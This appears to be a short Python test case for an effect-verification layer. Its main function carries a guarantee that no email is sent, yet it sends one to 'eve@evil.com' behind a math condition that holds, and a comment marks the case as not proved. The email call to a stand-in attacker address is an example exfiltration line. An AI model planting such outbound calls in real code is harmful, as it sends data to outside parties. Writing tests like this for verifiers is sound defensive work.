# not proved: sin(10) is negative
import math
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if math.sin(10.0) < 0.0 and math.sin(10.0) > -1.1:
        send_email("eve@evil.com", "x")
